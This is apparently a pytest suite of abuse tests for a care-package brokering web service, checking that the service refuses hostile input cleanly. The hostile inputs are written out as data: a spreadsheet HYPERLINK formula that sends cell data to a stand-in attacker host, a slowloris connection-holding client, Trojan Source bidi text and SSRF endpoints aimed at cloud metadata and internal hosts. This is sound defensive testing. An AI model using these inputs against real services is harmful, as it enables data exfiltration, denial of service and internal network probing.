"""A hostile user's second pass (issue: hostile review): each test is one way to break the
running service that the earlier reviews left open, refused at the boundary in the
contract's shape, never a 500, and reads afterwards still answer."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json

import httpx
import pytest
import websockets
from websockets.exceptions import ConnectionClosed

from core import iso, parse_iso
from tests.conftest import World, package_body, provider_body, tomorrow


def error_of(response: httpx.Response, status: int) -> dict:
    assert response.status_code == status, (response.request.url, response.status_code, response.text[:300])
    return response.json()["error"]


def page_client(world: World, token: str) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=world.service.url(), cookies={"session": token}, timeout=20)


async def test_dates_at_the_edges_of_the_calendar_are_422_not_500(world: World) -> None:
    # 9999-12-31 as `to` (its day's end is no date), years before 1970 (negative epochs
    # that no stream id can hold) and zone offsets past year 9999: each was a 500.
    too_late, too_early, past_the_end = "9999-12-31", "1969-12-31", "9999-12-31T23:00:00-12:00"
    for path in ("/api/reports/summary", "/api/audit", "/api/packages?page=1"):
        client = world.admin if path == "/api/audit" else world.broker
        for name, value in (("to", too_late), ("from", too_early), ("to", past_the_end)):
            response = await client.raw("GET", path, params={name: value})
            assert name in error_of(response, 422)["fields"], (path, name, value)
    alpha = world.users["Alpha Care"]
    for until in (too_late, past_the_end):
        response = await alpha.raw("POST", "/api/availability", json={
            "districts": ["SG1"], "days": ["mon"], "bands": ["morning"], "valid_until": until})
        assert "valid_until" in error_of(response, 422)["fields"]
    # The pages' GOV.UK date inputs: the same years answer the form again with the error.
    async with page_client(world, world.admin.token) as admin, page_client(world, alpha.token) as provider:
        for http, path in ((admin, "/broker/reports"), (admin, "/admin/audit"), (admin, "/broker/packages"),
                           (admin, "/broker/reports/response-rate.csv")):
            for typed in ({"to-day": "31", "to-month": "12", "to-year": "9999"},
                          {"from-day": "1", "from-month": "1", "from-year": "1900"}, {"to": "9999-12-31"}):
                response = await http.get(path, params=typed)
                assert response.status_code == 422, (path, typed, response.status_code)
        response = await provider.get("/provider/history", params={"to-day": "5", "to-month": "1", "to-year": "0001"})
        assert response.status_code == 422 and "between 1970 and 9998" in response.text
    # Ordinary ranges still answer.
    await world.broker("GET", "/api/reports/summary?from=2026-01-01&to=9998-12-31", expect=200)
    await world.admin("GET", "/api/audit?from=1970-01-01&to=2026-12-31", expect=200)


async def test_page_numbers_that_only_look_like_numbers_show_the_first_page(world: World) -> None:
    # "²" passes str.isdigit() but not int(); 5,000 nines pass both checks but int() refuses them.
    async with page_client(world, world.admin.token) as admin:
        for path in ("/admin/users", "/admin/audit", "/admin/providers", "/broker/packages"):
            for number in ("²", "9" * 5000, "-1", "１"):
                response = await admin.get(path, params={"page": number})
                assert response.status_code in (200, 422), (path, number, response.status_code)


async def test_a_provider_cannot_flood_a_package_or_the_brokers(world: World) -> None:
    # Every question and request for more time emails (red: texts) every broker, and every
    # offer lands in the package's history: a loop with a provider's token grew them without end.
    package = await world.post()
    pid = package["id"]
    alpha, beta = world.users["Alpha Care"], world.users["Beta Homecare"]
    asked = [await alpha("POST", f"/api/packages/{pid}/questions", {"text": f"Question {n}?"}, expect=201) for n in range(5)]
    sixth = await alpha.raw("POST", f"/api/packages/{pid}/questions", json={"text": "And another?"})
    assert error_of(sixth, 409)["code"] == "too_many_questions"
    await beta("POST", f"/api/packages/{pid}/questions", {"text": "Any pets?"}, expect=201)  # others unaffected
    await world.broker("POST", f"/api/packages/{pid}/questions/{asked[0]['id']}/answer", {"text": "Yes.", "publish": False}, expect=200)
    await alpha("POST", f"/api/packages/{pid}/questions", {"text": "Thanks: one more?"}, expect=201)  # an answer makes room

    await alpha("POST", f"/api/packages/{pid}/more-time", {"reason": "Coordinator back Monday"}, expect=201)
    again = await alpha.raw("POST", f"/api/packages/{pid}/more-time", json={"reason": "Please?"})
    assert error_of(again, 409)["code"] == "request_waiting"
    await beta("POST", f"/api/packages/{pid}/more-time", {"reason": "Checking rotas"}, expect=201)

    offer = {"hourly_rate": 22.5, "start_date": "2030-01-01", "can_meet_needs": True}
    for _ in range(10):
        made = await alpha("POST", f"/api/packages/{pid}/offers", offer, expect=201)
        await alpha("DELETE", f"/api/packages/{pid}/offers/{made['id']}", expect=200)
    eleventh = await alpha.raw("POST", f"/api/packages/{pid}/offers", json=offer)
    assert error_of(eleventh, 409)["code"] == "too_many_offers"
    await beta("POST", f"/api/packages/{pid}/offers", offer, expect=201)

    history = await world.broker("GET", f"/api/packages/{pid}/history", expect=200)
    kinds = [e["type"] for e in history]
    assert kinds.count("question.asked") == 7 and kinds.count("deadline.extension_requested") == 2
    assert kinds.count("offer.submitted") == 11


async def test_a_provider_cannot_declare_availability_without_end(world: World) -> None:
    # Every package posted in a district reads each current slot there: 100,000 slots from one
    # provider's script slowed every posting in its area. A hundred current ones is the limit.
    alpha = world.users["Alpha Care"]
    slot = {"districts": ["SG1"], "days": ["mon"], "bands": ["morning"], "valid_until": tomorrow()}
    posted: list[dict] = []
    for start in range(0, 100, 10):
        posted += await asyncio.gather(*(alpha("POST", "/api/availability", slot, expect=201) for _ in range(10)))
    over = await alpha.raw("POST", "/api/availability", json=slot)
    assert error_of(over, 409)["code"] == "too_many_slots"
    await world.users["Beta Homecare"]("POST", "/api/availability", slot, expect=201)  # others unaffected
    await alpha("DELETE", f"/api/availability/{posted[0]['id']}", expect=204)
    await alpha("POST", "/api/availability", slot, expect=201)  # deleting one makes room
    assert len(await alpha("GET", "/api/availability", expect=200)) == 100


async def test_a_provider_name_is_never_a_formula_in_a_report_spreadsheet(world: World) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    provider = await world.broker("POST", "/api/providers", provider_body(name, email="evil@providers.test"), expect=201)
    await world.post()  # matches it, so it is in the response-rate figures
    response = await world.broker.raw("GET", "/api/reports/summary", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert ["providers", provider["id"], "'" + name] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    async with page_client(world, world.broker.token) as http:
        for chart in ("response-rate", "hours-spread"):
            response = await http.get(f"/broker/reports/{chart}.csv")
            assert response.status_code == 200
            cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), chart
        rates = list(csv.reader(io.StringIO((await http.get("/broker/reports/response-rate.csv")).text)))
        assert ["'" + name, "0%", "no"] in rates
    # The JSON keeps the name as it was typed.
    assert (await world.broker("GET", "/api/reports/summary", expect=200))["providers"][provider["id"]] == name


async def test_text_that_would_display_in_another_order_is_refused(world: World) -> None:
    # U+202E shows "HCC-\u202e1234-ferer" as "HCC-refer-4321": a broker would read one
    # reference and search for another (Trojan Source). Isolates and embeddings likewise.
    package = await world.post()
    pid = package["id"]
    alpha = world.users["Alpha Care"]
    for client, path, body, field in [
        (world.broker, "/api/packages", package_body(reference="HCC-\u202e1234-ferer"), "reference"),
        (world.broker, "/api/packages", package_body(summary="Lives with \u2067son\u2069"), "summary"),
        (world.broker, "/api/providers", provider_body("Evil \u202dCare"), "name"),
        (world.broker, "/api/areas", {"name": "Stev\u202aenage", "districts": ["SG5"]}, "name"),
        (alpha, f"/api/packages/{pid}/questions", {"text": "Parking\u202e?"}, "text"),
        (alpha, f"/api/packages/{pid}/decline", {"reason": "no \u2066staff"}, "reason"),
        (alpha, f"/api/packages/{pid}/offers", {"hourly_rate": 22, "start_date": "2030-01-01", "can_meet_needs": True,
                                                "note": "\u202bnote"}, "note"),
    ]:
        response = await client.raw("POST", path, json=body)
        assert field in error_of(response, 422)["fields"], (path, field)
    # The marks right-to-left writers type are kept.
    kept = await world.post(reference="\u05d0\u05d1\u200f-7")
    assert kept["reference"] == "\u05d0\u05d1\u200f-7"


async def test_a_brokers_reason_sent_to_providers_never_quotes_the_postcode_or_reference(world: World) -> None:
    # The reason for an extension goes to every matched provider (deadline.extended) and a
    # refusal's to the asker, before any award: like a published answer, neither may carry
    # the service user's postcode or the council's reference.
    package = await world.post()
    pid = package["id"]
    later = iso(parse_iso(package["deadline"]) + 3600)
    for reason in ("Mrs T at SG1 1AA needs a hoist first", "Waiting on OT for sg11aa", "See HCC-0001 notes"):
        response = await world.broker.raw("POST", f"/api/packages/{pid}/deadline", json={"deadline": later, "reason": reason})
        assert "reason" in error_of(response, 422)["fields"], reason
    asked = await world.users["Alpha Care"]("POST", f"/api/packages/{pid}/more-time", {"reason": "Rota"}, expect=201)
    refused = await world.broker.raw("POST", f"/api/packages/{pid}/more-time/{asked['id']}/refuse",
                                     json={"reason": "HCC-0001 must start Monday"})
    assert "reason" in error_of(refused, 422)["fields"]
    # Nothing was sent: the only extension and refusal in the history are the ones allowed below.
    await world.broker("POST", f"/api/packages/{pid}/deadline", {"deadline": later, "reason": "Two providers asked"}, expect=200)
    await world.broker("POST", f"/api/packages/{pid}/more-time/{asked['id']}/refuse", {"reason": "No"}, expect=409)
    history = await world.broker("GET", f"/api/packages/{pid}/history", expect=200)
    assert [e["data"]["reason"] for e in history if e["type"] == "deadline.extended"] == ["Two providers asked"]
    assert not [e for e in history if e["type"] == "deadline.extension_refused"]


@pytest.mark.parametrize("route", ["web", "realtime"])
async def test_one_user_cannot_hold_sockets_without_end(world: World, route: str) -> None:
    # Each socket holds a mailbox, tasks and kernel buffers: a script with one provider token
    # opening thousands took the process's memory from everyone. WS_MAX_PER_USER a process
    # (500 by default; the test services hold 100).
    world.service.ws_route = route
    try:
        alpha, beta = world.users["Alpha Care"], world.users["Beta Homecare"]
        url = world.service.ws_url()
        async with contextlib.AsyncExitStack() as stack:
            held = [await stack.enter_async_context(websockets.connect(f"{url}?token={alpha.token}")) for _ in range(100)]
            for ws in (held[0], held[-1]):
                await ws.send(json.dumps({"type": "ping"}))
                assert json.loads(await asyncio.wait_for(ws.recv(), 10))["type"] == "pong"
            async with websockets.connect(f"{url}?token={alpha.token}") as extra:
                with pytest.raises(ConnectionClosed) as closed:
                    await asyncio.wait_for(extra.recv(), 10)
                assert closed.value.rcvd is not None and closed.value.rcvd.code == 4429
            async with websockets.connect(f"{url}?token={beta.token}") as other:  # another user is unaffected
                await other.send(json.dumps({"type": "ping"}))
                assert json.loads(await asyncio.wait_for(other.recv(), 10))["type"] == "pong"
            await held.pop().close()
            for _ in range(50):  # the closed socket's place is freed once the server has seen it go
                async with websockets.connect(f"{url}?token={alpha.token}") as again:
                    await again.send(json.dumps({"type": "ping"}))
                    try:
                        reply = json.loads(await asyncio.wait_for(again.recv(), 10))
                    except ConnectionClosed:
                        await asyncio.sleep(0.1)
                        continue
                    assert reply["type"] == "pong"
                    break
            else:
                raise AssertionError("a socket closed by its client never made room for another")
    finally:
        world.service.ws_route = "web"


@pytest.mark.parametrize("route", ["web", "realtime"])
async def test_a_socket_closes_when_its_session_ends_without_a_sign_out(world: World, redis_server, route: str) -> None:
    # A session that expires publishes no revocation (nor does one whose message a process
    # missed): its socket went on carrying the provider's events for as long as it stayed open.
    import hashlib

    import redis.asyncio as aioredis

    from config import keys

    world.service.ws_route = route
    alpha = world.users["Alpha Care"]
    store = aioredis.from_url(redis_server.url(0), decode_responses=True)
    try:
        async with websockets.connect(f"{world.service.ws_url()}?token={alpha.token}") as ws:
            await ws.send(json.dumps({"type": "ping"}))
            assert json.loads(await asyncio.wait_for(ws.recv(), 10))["type"] == "pong"
            # The session's time runs out (as its TTL would), with nobody signing out.
            assert await store.pexpire(keys.session(hashlib.sha256(alpha.token.encode()).hexdigest()), 1)
            with pytest.raises(ConnectionClosed) as closed:
                while True:  # raises TimeoutError if the socket is still open after 30 s
                    await asyncio.wait_for(ws.recv(), 30)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 4401
        assert (await alpha.raw("GET", "/api/me")).status_code == 401
    finally:
        world.service.ws_route = "web"
        await store.aclose()


async def test_a_client_that_never_finishes_its_request_head_is_let_go(world: World) -> None:
    # uvicorn kept a connection that sent nothing, or a header now and then, for ever: a few
    # thousand of them ("slowloris") held every file descriptor the web process had.
    port = int(world.service.url().rsplit(":", 1)[1])

    async def held(first: bytes) -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            writer.write(first)
            await writer.drain()
            # Drip a byte of header now and then, never finishing: each keeps the head "arriving".
            async def drip() -> None:
                for _ in range(60):
                    await asyncio.sleep(1)
                    if writer.is_closing():
                        return
                    writer.write(b"X")
                    await writer.drain()
            dripping = asyncio.create_task(drip()) if first else None
            try:
                # Raises (TimeoutError) if the server holds the connection for 30 s.
                return await asyncio.wait_for(reader.read(), 30)
            finally:
                if dripping:
                    dripping.cancel()
                    await asyncio.gather(dripping, return_exceptions=True)
        finally:
            writer.close()

    silent, slow_ws, slow_api = await asyncio.gather(
        held(b""),
        held(b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Slow: "),
        held(b"GET /api/me HTTP/1.1\r\nHost: x\r\nX-Slow: "),
    )
    for answer in (silent, slow_ws, slow_api):
        assert answer.startswith(b"HTTP/1.1 408"), answer[:100]
    # Ordinary requests and sockets are untouched.
    await world.broker("GET", "/api/me", expect=200)
    async with websockets.connect(f"{world.service.ws_url()}?token={world.broker.token}") as ws:
        await ws.send(json.dumps({"type": "ping"}))
        assert json.loads(await asyncio.wait_for(ws.recv(), 10))["type"] == "pong"


async def test_a_push_subscription_can_be_held_to_the_push_services(world: World, redis_server) -> None:
    # The worker POSTs every alert to the endpoint a provider user gave: any https address,
    # inside the council's network too. PUSH_ALLOW_HOSTS holds it to the browsers' push
    # services; the default (any host) keeps the contract's behaviour.
    import base64
    import os

    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    from config.settings import PUSH_SERVICES
    from tests.conftest import SERVICE_ENV, world_on
    from tests.support import Service

    def b64u(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    point = ec.generate_private_key(ec.SECP256R1()).public_key().public_bytes(
        serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    keys_ = {"p256dh": b64u(point), "auth": b64u(os.urandom(16))}
    await world.users["Alpha Care"]("POST", "/api/me/push-subscriptions", {
        "endpoint": "https://push.example.test/abc", "keys": keys_}, expect=201)

    import redis

    with redis.Redis.from_url(redis_server.url(9)) as r:
        r.flushdb()
    held = Service(redis_server.url(9), env={**SERVICE_ENV, "PUSH_ALLOW_HOSTS": ",".join(PUSH_SERVICES)}).start()
    try:
        async with world_on(held) as strict:
            alpha = strict.users["Alpha Care"]
            for endpoint in ("https://169.254.169.254/latest/meta-data/", "https://finance.internal.council/api/pay",
                             "https://evilpush.apple.com/x", "https://fcm.googleapis.com.evil.example/x"):
                response = await alpha.raw("POST", "/api/me/push-subscriptions", json={"endpoint": endpoint, "keys": keys_})
                assert "endpoint" in error_of(response, 422)["fields"], endpoint
            for endpoint in ("https://fcm.googleapis.com/fcm/send/abc", "https://web.push.apple.com/QGx",
                             "https://updates.push.services.mozilla.com/wpush/v2/x", "http://127.0.0.1:9/standin"):
                await alpha("POST", "/api/me/push-subscriptions", {"endpoint": endpoint, "keys": keys_}, expect=201)
    finally:
        held.stop()
